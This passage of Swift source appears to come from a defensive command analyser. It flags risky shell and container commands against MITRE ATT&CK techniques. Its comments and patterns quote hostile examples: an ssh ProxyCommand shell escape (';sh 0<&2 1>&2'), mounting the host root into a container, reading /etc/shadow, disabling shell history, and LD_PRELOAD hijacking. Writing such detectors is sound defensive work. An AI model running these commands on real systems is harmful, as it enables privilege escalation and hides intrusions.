        for (i, a) in args.enumerated() {
            guard var t = a.text else { continue }
            if t == "-o" {
                guard i + 1 < args.count, let v = args[i + 1].text else { continue }
                t = v
            } else if t.hasPrefix("-o") {
                t = String(t.dropFirst(2))
            } else {
                continue
            }
            for key in ["proxycommand", "localcommand"] where t.lowercased().hasPrefix(key) {
                var value = t.dropFirst(key.count)
                if value.first == "=" { value = value.dropFirst() }
                value = value.drop { $0 == " " }
                guard !value.isEmpty, value.lowercased() != "none" else { continue }
                explain("`\(name)` runs `\(Self.excerpt(String(value), limit: 100))` on this machine (`\(key == "proxycommand" ? "ProxyCommand" : "LocalCommand")`).")
                // ssh runs it as `exec VALUE`, so a leading `;` (`';sh 0<&2 1>&2'`) starts a new command.
                let command = value.drop { $0 == ";" || $0 == " " }
                let words = command.split(separator: " ")
                // The everyday use: reaching the host through a jump host or a proxy (`ssh -W %h:%p
                // bastion`, `nc -X connect -x proxy:3128 %h %p`); the connection itself is not read.
                if let first = words.first, ["ssh", "nc", "ncat", "netcat", "connect-proxy", "corkscrew", "socat"].contains(Self.basename(String(first))),
                    value.contains("%h") || words.contains("-W")
                {
                    continue
                }
                if let first = words.first, Set(catalogue.unixProgram(Self.basename(String(first)))?.roles ?? []).contains("shell"),
                    !words.dropFirst().contains(where: { $0.hasPrefix("-") && $0.contains("c") && !$0.hasPrefix("--") })
                {
                    add(.high, "T1059.004", "Starts a shell through `\(name)`'s \(key == "proxycommand" ? "ProxyCommand" : "LocalCommand"): a known way to escape restrictions, and what is typed into it is not read command by command.", range)
                }
                nestedString(Argument(text: String(command), range: a.range, taint: a.taint), range: range, via: "\(name) -o \(key == "proxycommand" ? "ProxyCommand" : "LocalCommand")")
            }
        }
    }

    /// A container started with the host's root folder (or the container engine's socket) inside
    /// it: whoever is in the container owns the host (`docker run -v /:/mnt … chroot /mnt`).
    mutating func checkHostRootMount(_ name: String, args: [Argument], range: SourceRange) {
        let texts = args.compactMap(\.text)
        for (i, t) in texts.enumerated() {
            var spec: String? = nil
            if ["-v", "--volume", "--mount"].contains(t), i + 1 < texts.count { spec = texts[i + 1] }
            for prefix in ["-v=", "--volume=", "--mount="] where t.hasPrefix(prefix) { spec = String(t.dropFirst(prefix.count)) }
            if t.hasPrefix("-v/") { spec = String(t.dropFirst(2)) }
            guard let s = spec else { continue }
            var source: String
            if s.contains("=") {
                // --mount type=bind,src=/,dst=/host
                let fields = s.split(separator: ",").map(String.init)
                source = fields.first { $0.hasPrefix("src=") || $0.hasPrefix("source=") }.map { String($0.split(separator: "=", maxSplits: 1).last ?? "") } ?? ""
            } else {
                source = s.split(separator: ":", maxSplits: 1, omittingEmptySubsequences: false).first.map(String.init) ?? ""
            }
            if source.count > 1, source.hasSuffix("/") { source.removeLast() }
            if source == "/" || source.hasSuffix("docker.sock") || source.hasSuffix("containerd.sock") || source.hasSuffix("podman.sock") {
                add(.high, "T1611", "Puts the host's \(source == "/" ? "whole file system (`/`)" : "container engine socket (`\(source)`)") inside a container (`\(name)`): whoever is in the container controls the host.", range)
                return
            }
        }
    }

    /// The command a container is started with or runs (`docker run … IMAGE sh -c '…'`,
    /// `docker exec CTR cat /etc/shadow`, `kubectl exec POD -- …`): read as a command of its own,
    /// not as the container tool's options. What it sends or destroys is what the call does.
    mutating func readContainerCommand(_ name: String, args: [Argument], range: SourceRange) {
        let texts = args.map { $0.text }
        var i = 0
        // Global options (`--context X`, `-H host`) before the sub-command.
        while i < texts.count, let t = texts[i], t.hasPrefix("-") { i += ["-H", "--host", "--context", "-c", "--config", "--log-level", "--namespace", "-n"].contains(t) ? 2 : 1 }
        guard i < texts.count, let verb = texts[i] else { return }
        var sub = verb
        if verb == "container", i + 1 < texts.count, let v = texts[i + 1] { sub = v; i += 1 }
        guard ["run", "exec", "create"].contains(sub) else { return }
        i += 1
        let valueOptions: Set<String> = [
            "-v", "--volume", "--mount", "-e", "--env", "--env-file", "-p", "--publish", "--name", "-w", "--workdir", "-u", "--user",
            "--network", "--net", "--entrypoint", "-l", "--label", "--label-file", "-h", "--hostname", "--add-host", "--dns", "-m", "--memory",
            "--cpus", "--restart", "--platform", "--pull", "--log-driver", "--log-opt", "--cap-add", "--cap-drop", "--device", "--ulimit",
            "--security-opt", "--ipc", "--pid", "--uts", "--userns", "--cgroupns", "--tmpfs", "--gpus", "--shm-size", "--stop-signal",
            "--health-cmd", "--runtime", "--link", "--volumes-from", "--expose", "-a", "--attach", "--cidfile", "--detach-keys", "--ip",
        ]
        var entrypoint: String? = nil
        while i < texts.count, let t = texts[i], t.hasPrefix("-") {
            if t == "--" { i += 1; break }
            if valueOptions.contains(t) {
                if t == "--entrypoint", i + 1 < texts.count { entrypoint = texts[i + 1] }
                i += 2
            } else {
                if t.hasPrefix("--entrypoint=") { entrypoint = String(t.dropFirst(13)) }
                i += 1
            }
        }
        // The image (run, create) or the container (exec), then the command.
        i += 1
        var inner = Array(args.dropFirst(min(i, args.count)))
        if let e = entrypoint { inner.insert(Argument(text: e, range: range), at: 0) }
        guard let first = inner.first, first.text != nil else { return }
        explain("`\(name) \(sub)` runs `\(Self.excerpt(inner.map { $0.text ?? "…" }.joined(separator: " ")))` inside the container; it is read below.")
        var m = PipelineMember(name: nil, range: range)
        _ = dispatch(inner, stdin: .none, range: range, via: "\(name) \(sub)", member: &m)
    }

    /// PowerShell started from a Unix shell: the command line goes to the PowerShell reader.
    mutating func runPowerShell(_ argv: [Argument], range: SourceRange) -> Stream {
        guard argv.allSatisfy({ $0.text != nil }) else {
            add(.high, "T1059.001", "Runs PowerShell with arguments only known at run time.", range)
            return .dynamic([])
        }
        let line = argv.compactMap(\.text).map { $0.contains(" ") ? "'" + $0.replacingOccurrences(of: "'", with: "''") + "'" : $0 }.joined(separator: " ")
        var nested = report.nested()
        let status = PowerShellReader(catalogue: catalogue).read(line, origin: 0, depth: nesting + 1, into: &nested)
        for f in nested.findings { add(f.risk, f.technique, f.reason, range) }
        for e in nested.explanation { explain(e) }
        if nested.steps > report.steps { report.spend(nested.steps - report.steps) }
        if case .complete = status {} else {
            add(.high, "T1059.001", "PowerShell code Escort could not read completely.", range)
        }
        return .dynamic([])
    }

    /// The code given to `-e`, `-c`, `--eval` or `-r`, if any.
    static func inlineCode(_ args: [Argument]) -> String? {
        for (i, a) in args.enumerated() where ["-e", "-c", "--eval", "-r", "-E", "--execute"].contains(a.text ?? "") && i + 1 < args.count {
            return args[i + 1].text
        }
        return nil
    }

    // MARK: - Assignments

    /// Environment variables whose value a program runs as a command.
    static func holdsCommand(_ name: String) -> Bool {
        let exact: Set<String> = ["EDITOR", "VISUAL", "LESSOPEN", "LESSCLOSE", "PERL5DB", "BROWSER", "GIT_SSH", "GIT_EXTERNAL_DIFF", "SSH_ASKPASS", "SUDO_ASKPASS", "GIT_ASKPASS", "MANPAGER", "PAGER"]
        return exact.contains(name) || name.hasSuffix("PAGER") || name.hasSuffix("_EDITOR") || name.hasSuffix("_COMMAND") || name.hasSuffix("_CMD")
    }

    mutating func checkAssignment(_ name: String, _ value: Argument, range: SourceRange) {
        let v = value.text ?? ""
        switch name {
        case "HISTFILE" where v.isEmpty || v == "/dev/null":
            add(.high, "T1562.003", "Stops the shell from saving its command history, hiding what was done.", range)
        case "HISTSIZE" where v == "0" || v.isEmpty, "HISTFILESIZE" where v == "0" || v.isEmpty, "SAVEHIST" where v == "0" || v.isEmpty:
            add(.high, "T1562.003", "Sets the command history size to zero, hiding what was done.", range)
        case "HISTCONTROL" where v.contains("ignorespace") || v.contains("ignoreboth"):
            // Any command typed with a leading space is then run without a trace in the history.
            add(.high, "T1562.003", "Makes the shell leave out of its history every command typed with a space in front: a known way to run commands without a record.", range)
        case "HISTIGNORE" where v.contains("*"):
            add(.high, "T1562.003", "Makes the shell leave matching commands out of its history.", range)
        case "LD_PRELOAD", "LD_AUDIT":
            add(.high, "T1574.006", "Loads the library `\(v)` into every program started from here (`\(name)`), a way to hijack them.", range)
        case "LD_LIBRARY_PATH":
            add(.medium, "T1574.006", "Changes where programs look for their libraries (`LD_LIBRARY_PATH`).", range)
        case "PROMPT_COMMAND":
            add(.medium, "T1546.004", "Sets a command that the shell runs before every prompt.", range)
            if let t = value.text { readNested(t, range: range, hidden: value.taint.contains(.decoded)) }
        case "PATH" where v.hasPrefix(".") || v.hasPrefix(":") || v.hasPrefix("/tmp") || v.hasPrefix("/dev/shm"):
            add(.medium, "T1574.007", "Puts a writable or relative folder first in `PATH`, so a planted program can take the place of a real one.", range)
        case "BASH_ENV", "ENV":
            add(.medium, "T1546.004", "Sets a file that every new shell runs at start-up (`\(name)`).", range)
        case _ where Self.holdsCommand(name):
            // Programs run what these name (`PAGER`, `EDITOR`, `LESSOPEN`, `GIT_SSH_COMMAND`,
            // `RESTIC_PASSWORD_COMMAND`, `PERL5DB`…): setting one to a shell is the GTFOBins escape.
            if var t = value.text, !t.isEmpty {
                // `LESSOPEN='|cmd %s'`: the `|` says less reads the command's output; `%s` is the file.
                if name == "LESSOPEN" || name == "LESSCLOSE" {
                    t = String(t.drop { $0 == "|" || $0 == " " }).replacingOccurrences(of: "%s", with: "FILE")
                }
                explain("`\(name)` names a command that programs run: `\(Self.excerpt(t, limit: 100))`.")
                if Self.handsOverShell(t) || shellPayloads.contains(PathPattern.normalise(t)) {
                    add(.high, "T1059.004", "Sets `\(name)` to a command that starts a shell: the program that runs it hands over a shell, a known way to escape restrictions.", range)
                }
                readNested(t, range: range, hidden: value.taint.contains(.decoded))
            }
        default:
            break
        }
        if value.taint.contains(.network) {
            add(.high, "T1105", "Stores data downloaded from the internet in the variable `\(name)`.", range)
        }
    }
}
